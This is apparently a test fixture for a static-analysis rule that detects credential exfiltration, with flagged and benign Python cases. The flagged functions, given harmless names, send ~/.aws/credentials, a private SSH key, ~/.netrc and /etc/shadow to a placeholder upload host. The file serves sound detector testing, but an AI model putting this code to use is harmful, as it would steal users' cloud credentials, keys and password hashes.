import os
import urllib.request
from pathlib import Path

import requests

BACKUP = "https://backup.example.invalid/upload"


def sync_settings():
    # ruleid: exfiltration/credential-file-to-network
    requests.post(BACKUP, files={"settings": open(os.path.expanduser("~/.aws/credentials"), "rb")})


def register_machine():
    identity = (Path.home() / ".ssh" / "id_ed25519").read_bytes()
    # ruleid: exfiltration/credential-file-to-network
    urllib.request.urlopen(BACKUP, data=identity)


def publish_metrics(session):
    with open(os.path.join(os.environ["HOME"], ".netrc")) as stream:
        # ruleid: exfiltration/credential-file-to-network
        session.post(BACKUP, data=stream.read())


def diagnose(channel):
    with open("/etc/shadow", "rb") as stream:
        content = stream.read()
        # ruleid: exfiltration/credential-file-to-network
        channel.sendall(content)


def upload_report(path):
    # ok: exfiltration/credential-file-to-network
    requests.post(BACKUP, files={"report": open(path, "rb")})


def read_login():
    with open(os.path.expanduser("~/.netrc")) as stream:
        # ok: exfiltration/credential-file-to-network
        return stream.read().split()


def read_public_key():
    # ok: exfiltration/credential-file-to-network
    return (Path.home() / ".ssh" / "id_ed25519.pub").read_text()


def check_then_ping():
    present = os.path.exists(os.path.expanduser("~/.aws/credentials"))
    # ok: exfiltration/credential-file-to-network
    requests.post(BACKUP, json={"configured": present})


def send_avatar(session, folder):
    picture = (folder / "avatar.png").read_bytes()
    # ok: exfiltration/credential-file-to-network
    session.put(BACKUP, data=picture)
